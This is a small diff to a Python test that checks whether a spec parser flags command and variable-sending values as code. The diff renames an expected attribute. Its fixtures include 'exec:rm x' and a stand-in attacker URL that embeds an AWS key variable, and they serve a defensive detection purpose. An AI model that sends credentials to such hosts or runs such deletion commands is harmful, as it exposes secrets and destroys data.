@@ -96,5 +96,5 @@ def test_a_command_and_what_sends_a_variable_are_code_that_a_spec_names() -> Non
         ("notify", "exec:rm x"),
         ("notify", "https://evil/${AWS_KEY}"),
     ]
-    assert named[0].announcement == "notifying exec:rm x"
+    assert named[0].description == "notify exec:rm x"
     assert [code.path for code in code_named({"notify": "exec:x"})] == ["exec:x"]
